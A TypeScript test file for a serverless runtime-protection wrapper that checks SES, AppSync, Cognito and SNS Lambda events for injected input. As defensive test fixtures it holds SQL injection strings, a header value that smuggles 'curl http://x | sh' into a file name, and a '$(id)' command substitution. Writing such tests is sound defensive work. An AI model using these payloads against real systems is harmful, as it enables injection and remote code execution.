import t, { type Test } from 'tap';
import type { Context } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from '../../../adapters/aws-lambda/index';
import { normalize } from '../../../adapters/aws-lambda/normalize';
import { cognitoPreSignUp, lambdaContext } from '../../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../../helpers/tables';
import { appSync, cognitoIdentity, ses } from './events';

type Any = any;

function recorder() {
  const calls: Any[] = [];
  const handler = async (event: Any, _context: Context) => {
    calls.push(event);
    return { id: 'ord-1', status: 'PLACED' };
  };
  return { calls, handler };
}

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const ctx = () => lambdaContext({ functionName: 'orders-api' });

// ---------------------------------------------------------------------------------------------
// SES
// ---------------------------------------------------------------------------------------------

/** Every shared attack, in every placement: the handler never runs and the event names the trigger and path. */
async function everyAttackBlocked(t: Test, placements: ReadonlyArray<readonly [string, (p: string) => unknown, string]>, trigger: string): Promise<void> {
  for (const [where, build, path] of placements) {
    for (const a of ATTACKS) {
      const { calls, handler } = recorder();
      const { lines, log } = logs();
      const wrapped = protect(handler, { log });
      const err = await wrapped(build(a.payload) as never, ctx()).catch((e: unknown) => e);
      t.ok(err instanceof RequestBlockedError, `${where}, ${a.class}: ${a.payload}`);
      t.equal(calls.length, 0);
      t.equal(lines[0]?.trigger, trigger);
      t.equal(lines[0]?.where?.startsWith(path), true, `${where}: ${lines[0]?.where}`);
    }
  }
}

t.test('SES receipts are recognized; transport headers are left out', async (t) => {
  const n = normalize(ses({ extraHeaders: [{ name: 'X-Order-Ref', value: 'A-4471' }] }));
  t.equal(n.kind, 'event');
  t.equal(n.trigger, 'ses');
  if (n.kind !== 'event') return;
  t.same(
    n.request.sources.map((s) => s.path),
    ['records[0].ses.mail.commonHeaders', 'records[0].ses.mail.source', 'records[0].ses.mail.headers[7].value', 'records[0].ses.mail.headers[13].value', 'records[0].ses.mail.headers[14].value'],
    'commonHeaders, the envelope sender, MIME-Version, Content-Type and X-Order-Ref',
  );
});

t.test('SES: benign mail passes unchanged', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  for (const text of BENIGN) {
    const event = ses({ subject: text, from: `"${text.replace(/["\\]/g, '')}" <jane.doe@example.com>`, extraHeaders: [{ name: 'X-Note', value: text }] });
    const snapshot = JSON.stringify(event);
    t.same(await wrapped(event, ctx()), { id: 'ord-1', status: 'PLACED' }, `"${text}"`);
    t.equal(calls[calls.length - 1], event);
    t.equal(JSON.stringify(event), snapshot);
  }
  t.equal(lines.length, 0, String(lines[0]?.where));
});

t.test('SES: an attack in the subject, the From display name or another header is blocked', async (t) => {
  const placements: Array<[string, (p: string) => Any, string]> = [
    ['subject', (p) => ses({ subject: p }), 'records[0].ses.mail.commonHeaders.subject'],
    ['from', (p) => ses({ from: p }), 'records[0].ses.mail.commonHeaders.from[0]'],
    ['to', (p) => ses({ to: [p] }), 'records[0].ses.mail.commonHeaders.to[0]'],
    ['header', (p) => ses({ extraHeaders: [{ name: 'X-Order-Ref', value: p }] }), 'records[0].ses.mail.headers[14].value'],
  ];
  await everyAttackBlocked(t, placements, 'ses');
});

t.test('SES: exact paths and monitor mode', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  await t.rejects(protect(handler, { log })(ses({ subject: "invoice' UNION SELECT password FROM users --" }), ctx()), RequestBlockedError);
  t.same([lines[0]?.where, lines[0]?.class], ['records[0].ses.mail.commonHeaders.subject', 'sqli']);
  const event = ses({ extraHeaders: [{ name: 'X-Attachment-Name', value: 'report.csv; curl http://x | sh' }] });
  t.same(await protect(handler, { log, mode: 'monitor' })(event, ctx()), { id: 'ord-1', status: 'PLACED' });
  t.equal(calls[0], event);
  t.same([lines[1]?.action, lines[1]?.where, lines[1]?.class], ['monitor', 'records[0].ses.mail.headers[14].value', 'shell']);
});

t.test('SES: odd shapes never crash the wrapper', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  const odd: Any = ses();
  odd.Records[0].ses.mail.headers.push(null, { name: 42, value: 'x' }, { value: 'no name' }, 'str');
  odd.Records[0].ses.mail.commonHeaders = 'not an object';
  await wrapped(odd, ctx());
  await wrapped({ Records: [{ eventSource: 'aws:ses' }] } as Any, ctx());
  await wrapped({ Records: [{ eventSource: 'aws:ses', ses: { mail: { headers: 'x' } } }] } as Any, ctx());
  t.equal(calls.length, 3);
  t.equal(lines.length, 0);
});

// ---------------------------------------------------------------------------------------------
// AppSync
// ---------------------------------------------------------------------------------------------

t.test('AppSync direct resolver events are recognized', async (t) => {
  const n = normalize(appSync({ source: { id: 'c-1' }, prev: { result: { ok: true } } }));
  t.equal(n.kind, 'event');
  t.equal(n.trigger, 'appsync');
  if (n.kind !== 'event') return;
  t.equal(n.request.route, 'Mutation.createOrder');
  t.equal(n.request.ip, '198.51.100.23');
  t.same(
    n.request.sources.map((s) => s.path),
    ['arguments', 'request.headers', 'request.headers.cookie', 'identity', 'source', 'prev.result', 'info.variables'],
  );
  const identity = n.request.sources.find((s) => s.path === 'identity')!.value as Any;
  t.notOk('iss' in identity.claims, "the token's issuer is the deployment's own");
  t.equal(identity.claims.name, 'Jane Doe');
});

t.test('AppSync: benign input passes and the resolver result comes back', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  for (const text of BENIGN) {
    const event = appSync({
      arguments: { input: { sku: 'BK-1042', note: text } },
      headers: { 'x-client-note': text },
      identity: cognitoIdentity({ name: text }),
      source: { title: text },
    });
    const snapshot = JSON.stringify(event);
    t.same(await wrapped(event, ctx()), { id: 'ord-1', status: 'PLACED' }, `"${text}"`);
    t.equal(calls[calls.length - 1], event);
    t.equal(JSON.stringify(event), snapshot);
  }
  t.equal(lines.length, 0, String(lines[0]?.where));
});

t.test('AppSync: an attack in arguments, headers, claims, source or prev is blocked (a GraphQL error for the field)', async (t) => {
  const placements: Array<[string, (p: string) => Any, string]> = [
    ['arguments', (p) => appSync({ arguments: { input: { sku: 'BK-1', note: p } } }), 'arguments.input.note'],
    ['header', (p) => appSync({ headers: { 'x-client-note': p } }), 'request.headers.x-client-note'],
    ['claim', (p) => appSync({ identity: cognitoIdentity({ name: p }) }), 'identity.claims.name'],
    ['source', (p) => appSync({ parentTypeName: 'Order', fieldName: 'invoice', source: { id: 'o-1', note: p } }), 'source.note'],
    ['prev', (p) => appSync({ prev: { result: { items: [{ note: p }] } } }), 'prev.result.items[0].note'],
  ];
  await everyAttackBlocked(t, placements, 'appsync');
});

t.test('AppSync: monitor mode, exclusions by Type.field, and odd shapes', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const event = appSync({ arguments: { input: { note: "' UNION SELECT password FROM users --" } } });
  t.same(await protect(handler, { log, mode: 'monitor' })(event, ctx()), { id: 'ord-1', status: 'PLACED' });
  t.same([lines[0]?.action, lines[0]?.trigger, lines[0]?.where], ['monitor', 'appsync', 'arguments.input.note']);
  const excluded = protect(handler, { log: false, exclusions: [{ route: 'Mutation.createOrder', path: 'arguments.input.note', classes: ['sqli'] }] });
  t.same(await excluded(event, ctx()), { id: 'ord-1', status: 'PLACED' }, 'excluded for this resolver');
  await t.rejects(excluded(appSync({ fieldName: 'updateOrder', arguments: { input: { note: "' UNION SELECT password FROM users --" } } }), ctx()), RequestBlockedError, 'and only for it');
  const odd: Any = appSync({ identity: null });
  odd.request = 'x';
  odd.prev = { result: null };
  await protect(handler, { log })(odd, ctx());
  t.equal(calls.length, 3);
  t.equal(lines.filter((l) => l.action === 'error').length, 0);
});

t.test('Cognito and AppSync show the error to the caller: the message names no rule and no path', async (t) => {
  const lines: SecurityEvent[] = [];
  const wrapped = protect(async (e: unknown) => e, { log: (l: string) => lines.push(JSON.parse(l) as SecurityEvent) });
  const context = lambdaContext({ functionName: 'orders-graphql', awsRequestId: 'req-0001' });
  const cases: Array<[string, unknown]> = [
    ['appsync', appSync({ fieldName: 'updateOrder', arguments: { input: { note: "' UNION SELECT password FROM users --" } } })],
    ['cognito', cognitoPreSignUp({ email: 'a@example.com', name: "x' OR '1'='1" })],
  ];
  for (const [trigger, event] of cases) {
    const err = (await wrapped(event as never, context).catch((e: unknown) => e)) as RequestBlockedError;
    t.type(err, RequestBlockedError, trigger);
    t.equal(err.message, 'Request blocked by serverless-rasp (request req-0001)', `${trigger}: generic message`);
    t.notMatch(err.message, /sqli|UNION|arguments|userAttributes/);
    t.ok(err.findings.length > 0, `${trigger}: the findings stay on the error`);
    t.equal(lines.at(-1)?.trigger, trigger);
    t.match(lines.at(-1)?.rule, /^sqli\./, `${trigger}: the security event has the rule`);
  }
  // Triggers whose errors only the operator sees keep the rule and path in the message.
  const err = (await wrapped({ Records: [{ eventSource: 'aws:sns', EventSubscriptionArn: 'arn:aws:sns:us-east-1:123456789012:t:1', Sns: { Type: 'Notification', MessageId: 'm', TopicArn: 'arn:aws:sns:us-east-1:123456789012:t', Subject: null, Message: '$(id)', Timestamp: '2024-05-01T12:00:00.000Z', SignatureVersion: '1', Signature: 'x', SigningCertUrl: 'https://sns.us-east-1.amazonaws.com/x.pem', UnsubscribeUrl: 'https://sns.us-east-1.amazonaws.com/?Action=Unsubscribe', MessageAttributes: {} } }] } as never, context).catch((e: unknown) => e)) as RequestBlockedError;
  t.match(err.message, /^Request blocked by serverless-rasp: shell\.\S+ at /);
});
